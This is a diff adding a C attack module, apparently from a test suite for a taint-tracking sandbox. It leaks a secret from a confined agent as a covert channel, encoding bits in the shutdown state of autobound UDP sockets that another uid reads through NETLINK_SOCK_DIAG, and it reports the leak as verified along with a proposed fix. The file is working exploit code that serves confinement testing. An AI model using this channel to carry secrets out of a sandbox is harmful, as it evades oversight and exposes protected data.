@@ -1,0 +1,172 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/* udp_shutdown_autobind - udp_shutdown_diag for any agent (no --server, no socket made before
+ * the taint): after its recv the agent makes one UDP socket per canary bit, hashes each by a
+ * refused sendto (autobind, as udp_sockmem_diag), and calls shutdown(SHUT_RD) for a 0 bit,
+ * shutdown(SHUT_WR) for a 1 bit (ENOTCONN, but sk_shutdown is set). The index is the socket's
+ * rank by local port (the agent reads its ports with getsockname).
+ * Verifier: uid 65534 dumps the UDP sockets over NETLINK_SOCK_DIAG, keeps those with
+ * INET_DIAG_SHUTDOWN 1 or 2, groups them by owner uid, sorts each group by port and decodes.
+ * Result (host, user and root): LEAKED user and root (cgroup backend, 6.18): every
+ * step after the taint, no bind, no setsockopt; the refused sendto is the only denial.
+ * Control (MNC_ATTACKS_CONTROL=1): LEAKED, verified.
+ * Bandwidth: 1 bit per socket (2 with SHUT_RDWR and an index carrier), bounded by the fd
+ * limit per agent (~1000 bits at once; sockets can be closed and remade: ~10^4 sockets/s).
+ * Class fix: as udp_shutdown_diag (gate shutdown(2) for tainted agents, or count sk_shutdown
+ * with queue lengths as open). */
+#include <grp.h>
+#include <netinet/in.h>
+#include <stdint.h>
+#include <sys/wait.h>
+#include <linux/inet_diag.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <linux/sock_diag.h>
+
+#include "atk.h"
+
+#define SA_MAX 512 /* bits */
+
+struct sa_sock {
+    unsigned port, uid;
+    int fd, sd;
+};
+
+static int by_port(const void *x, const void *y)
+{
+    const struct sa_sock *a = x, *b = y;
+    return a->uid != b->uid ? (a->uid < b->uid ? -1 : 1) : (a->port > b->port) - (a->port < b->port);
+}
+
+static int agent(struct atk_ctx *c)
+{
+    static struct sa_sock ss[SA_MAX];
+    size_t n = strlen(c->secret), bits = n * 8 < SA_MAX ? n * 8 : SA_MAX, made = 0;
+    int fails = 0;
+    for (size_t i = 0; i < bits; i++) {
+        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+        if (s < 0) {
+            fails++;
+            continue;
+        }
+        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+        (void)sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof(a)); /* refused: autobinds all the same */
+        struct sockaddr_in me;
+        socklen_t ml = sizeof(me);
+        if (getsockname(s, (struct sockaddr *)&me, &ml) != 0 || me.sin_port == 0) {
+            fails++;
+            close(s);
+            continue;
+        }
+        ss[made].fd = s, ss[made].port = ntohs(me.sin_port), ss[made].uid = 0;
+        made++;
+    }
+    qsort(ss, made, sizeof(ss[0]), by_port);
+    for (size_t i = 0; i < made; i++) {
+        int bit = ((unsigned char)c->secret[i / 8] >> (i % 8)) & 1;
+        int r = shutdown(ss[i].fd, bit ? SHUT_WR : SHUT_RD);
+        if (r < 0 && errno != ENOTCONN)
+            fails++;
+    }
+    atk_try(c, "sockets autobound by a refused sendto, then shutdown (ENOTCONN expected)", fails ? -1 : 0);
+    atk_sync(c, "set"); /* the sockets stay open until the agent exits */
+    return 0;
+}
+
+/* uid 65534: (uid, port, shutdown) of every AF_INET UDP socket whose shutdown is 1 or 2 */
+static int dump_udp(struct sa_sock *out, int cap)
+{
+    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
+    if (s < 0)
+        return -1;
+    struct {
+        struct nlmsghdr h;
+        struct inet_diag_req_v2 r;
+    } req = {
+        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
+        .r = {.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_UDP, .idiag_states = ~0u}};
+    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
+        close(s);
+        return -1;
+    }
+    static char buf[1 << 16];
+    int got = 0;
+    for (;;) {
+        ssize_t r = recv(s, buf, sizeof(buf), 0);
+        if (r <= 0)
+            break;
+        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
+            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
+                close(s);
+                return got;
+            }
+            struct inet_diag_msg *m = NLMSG_DATA(h);
+            int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
+            for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
+                if (at->rta_type != INET_DIAG_SHUTDOWN || RTA_PAYLOAD(at) < 1)
+                    continue;
+                int sd = *(unsigned char *)RTA_DATA(at) & 3;
+                if ((sd == 1 || sd == 2) && got < cap) {
+                    out[got].uid = m->idiag_uid, out[got].port = ntohs(m->id.idiag_sport), out[got].sd = sd;
+                    got++;
+                }
+            }
+        }
+    }
+    close(s);
+    return got;
+}
+
+static void on_sync(struct atk_ctx *c, const char *tag)
+{
+    if (strcmp(tag, "set") != 0)
+        return;
+    int p[2];
+    if (pipe(p) != 0)
+        return;
+    pid_t pid = fork();
+    if (pid == 0) {
+        close(p[0]);
+        if (setgroups(0, NULL) != 0 || setgid(65534) != 0 || setuid(65534) != 0)
+            _exit(1);
+        static struct sa_sock socks[4096];
+        int n = dump_udp(socks, 4096);
+        if (n > 0)
+            qsort(socks, (size_t)n, sizeof(socks[0]), by_port);
+        /* one message per uid group, joined by '|' */
+        static char msg[8192];
+        size_t mlen = 0;
+        for (int k = 0; k < n;) {
+            int e = k;
+            while (e < n && socks[e].uid == socks[k].uid)
+                e++;
+            for (int i = k; i < e && mlen + (size_t)(i - k) / 8 + 2 < sizeof(msg); i++)
+                if (socks[i].sd == 2)
+                    msg[mlen + (size_t)(i - k) / 8] |= (char)(1 << ((i - k) % 8));
+            mlen += (size_t)(e - k + 7) / 8;
+            if (mlen + 1 < sizeof(msg))
+                msg[mlen++] = '|';
+            k = e;
+        }
+        ssize_t w = write(p[1], msg, mlen);
+        _exit(w < 0);
+    }
+    close(p[1]);
+    static char got[8194];
+    ssize_t r = pid > 0 ? read(p[0], got, sizeof(got) - 1) : -1;
+    close(p[0]);
+    if (pid > 0)
+        waitpid(pid, NULL, 0);
+    if (r > 0 && memmem(got, (size_t)r, c->canary, strlen(c->canary)))
+        atk_evidence(c, "uid 65534 read the canary from the shutdown state of UDP sockets the tainted agent "
+                        "made and autobound (NETLINK_SOCK_DIAG INET_DIAG_SHUTDOWN, port rank as the index)");
+}
+
+static const struct atk A = {"udp_shutdown_autobind",
+                             "shutdown(2) state of UDP sockets made after the taint, read through sock_diag",
+                             0,
+                             NULL,
+                             agent,
+                             on_sync,
+                             NULL,
+                             NULL};
+ATK_MAIN(A)
